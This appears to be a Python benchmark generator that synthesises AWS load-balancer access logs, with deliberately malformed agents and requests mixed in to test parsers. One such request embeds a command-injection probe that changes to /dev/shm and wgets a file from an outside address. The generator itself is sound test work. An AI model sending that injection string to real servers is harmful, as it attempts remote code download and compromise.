"""ALB access logs: 34 fields, requests and agents in quotes."""

from __future__ import annotations

from random import Random

import numpy as np

from benchmarks.generators import web
from benchmarks.generators.columns import (
    DASH,
    Column,
    Mask,
    constant,
    join,
    lines,
    moments,
    quoted,
    six_digits,
    thousandths,
    where,
    whole,
    written,
)
from benchmarks.generators.delivery import ACCOUNTS, REGIONS, Delivery, LogFormat, Span
from benchmarks.generators.noise import ALPHANUMERIC, HEX, Noise

BALANCER = "web/0011aabb2233ccdd"
ERAS = (25, 29, 30, 33)  # fields of a line in 2018, 2020, 2024 and 2025
ODD_AGENTS: tuple[bytes, ...] = (
    rb"Mozilla/5.0 \"quoted\" (X11)",
    rb"curl/8.5.0 -o C:\temp\x",
    b"Opera/9.80 (caf\xe9; \xff\xfe)",
)
ODD_REQUESTS: tuple[bytes, ...] = (
    b"- http://198.51.100.1:80- -",
    b"GET https://www.example.com:443/shell?cd /dev/shm;wget http://203.0.113.66/x HTTP/1.1",
    rb"GET https://www.example.com:443/a?q=\x22x\x22 HTTP/1.1",
)


def stamp(seconds: Column, noise: Noise) -> Column:
    """A time with microseconds, its second given."""
    return join(seconds, constant("."), six_digits(noise.below(10**6)), constant("Z"))


def target_groups(span: Span, blocked: Mask) -> Column:
    """The ARN of one of three groups of the account and region, or none."""
    place = "arn:aws:elasticloadbalancing:"
    region = written(span.regions, REGIONS.__getitem__)
    account = written(span.accounts, ACCOUNTS.__getitem__)
    group = span.noise.pick([f"targetgroup/{n}/aabb0011ccdd2233" for n in ("web", "api", "adm")])
    return where(blocked, DASH, join(constant(place), join(region, account, group, between=":")))


def request(noise: Noise, client: Column) -> dict[str, Column]:
    """Who asked for what."""
    host, method = noise.pick(web.HOSTS), noise.pick(web.METHODS)
    url = join(constant("https://"), host, constant(":443"), web.path_and_query(noise))
    return {
        "client": join(client, noise.port(), between=":"),
        "request": join(method, url, noise.pick(web.PROTOCOLS), between=" "),
        "agent": noise.pick(web.AGENTS),
        "host": host,
    }


def oddities(fields: dict[str, Column], noise: Noise, kind: np.ndarray) -> None:
    """Put agents, requests and addresses that hurt on the lines of the kinds 0, 1 and 2."""
    fields["agent"] = where(kind == 0, noise.pick(ODD_AGENTS), fields["agent"])
    fields["request"] = where(kind == 1, noise.pick(ODD_REQUESTS), fields["request"])
    client = join(noise.address6(), noise.port(), between=":")
    fields["client"] = where(kind == 2, client, fields["client"])


def answered(span: Span, blocked: Mask) -> list[Column]:
    """Target, the three durations, the two status codes and the two sizes."""
    noise = span.noise
    status = web.status(noise)
    target = join(noise.inside_address(), constant(":8080"))
    durations = [thousandths(noise.sizes(typical) - 1) for typical in (2, 40, 1)]
    code = where(blocked, constant("403"), web.status_text(status))
    return [
        where(blocked, DASH, target),
        *(where(blocked, constant("-1"), duration) for duration in durations),
        code,
        where(blocked, DASH, web.status_text(status)),
        whole(noise.sizes(500)),
        whole(noise.sizes(6000)),
    ]


def tail(span: Span, blocked: Mask, target: Column, status: Column) -> list[Column]:
    """The fields from `matched_rule_priority` on."""
    noise, none = span.noise, constant('"-"')
    created = moments(span.seconds - noise.below(2), "%Y-%m-%dT%H:%M:%S")
    return [
        noise.pick(["0", "1", "2", "10", "100"]),
        stamp(created, noise),
        where(blocked, constant('"waf"'), noise.pick(['"forward"', '"waf,forward"'])),
        none,
        none,
        quoted(target),
        quoted(status),
        none,
        none,
        join(constant("TID_"), noise.word(32)),
        none,
        none,
        none,
        noise.pick([f"203.0.113.{node}" for node in range(4)]),
    ]


def columns(span: Span, kind: np.ndarray) -> list[Column]:
    """The 34 fields of every line."""
    noise, blocked = span.noise, span.noise.chosen(0.02)
    asked = request(noise, noise.outside_address())
    oddities(asked, noise, kind)
    target, *measures = answered(span, blocked)
    trace = join(constant("Root=1-"), noise.word(8), constant("-"), noise.word(24))
    return [
        noise.pick(["https", "h2", "https", "http"]),
        stamp(moments(span.seconds, "%Y-%m-%dT%H:%M:%S"), noise),
        noise.same(f"app/{BALANCER}"),
        asked["client"],
        target,
        *measures,
        quoted(asked["request"]),
        quoted(asked["agent"]),
        noise.pick(["TLS_AES_128_GCM_SHA256", "ECDHE-RSA-AES128-GCM-SHA256"]),
        noise.pick(["TLSv1.3", "TLSv1.2"]),
        target_groups(span, blocked),
        quoted(trace),
        quoted(asked["host"]),
        noise.pick(['"session-reused"', '"arn:aws:acm:us-east-1:111122223333:certificate/1"']),
        *tail(span, blocked, target, measures[4]),
    ]


def units(span: Span) -> Column:
    """One line for each request; odd lines are also those of earlier years, with fewer fields."""
    kind = np.where(span.noise.chosen(span.odd), span.noise.below(3 + len(ERAS)), -1)
    fields = columns(span, kind)
    written_lines = lines(*fields)
    if span.odd:
        for place, width in enumerate(ERAS, 3):
            written_lines = where(kind == place, lines(*fields[:width]), written_lines)
    return written_lines


def balancer_key(delivery: Delivery, balancer: str, node: str) -> str:
    """Where a load balancer of any kind puts its file, up to the suffix."""
    folder = f"AWSLogs/{delivery.account}/elasticloadbalancing/{delivery.region}"
    name = f"{delivery.account}_elasticloadbalancing_{delivery.region}_{balancer}"
    day, end = delivery.ending("%Y/%m/%d"), delivery.ending("%Y%m%dT%H%MZ")
    return f"{folder}/{day}/{name}_{end}_{node}{delivery.word(8, ALPHANUMERIC)}"


def key(delivery: Delivery) -> str:
    """Where AWS puts the file."""
    balancer = "app." + BALANCER.replace("/", ".")
    node = f"203.0.113.{Random(delivery.word(4, HEX)).randrange(4)}_"
    return balancer_key(delivery, balancer, node) + ".log.gz"


ALB = LogFormat(name="alb", units=units, key=key, may_be_odd=True)
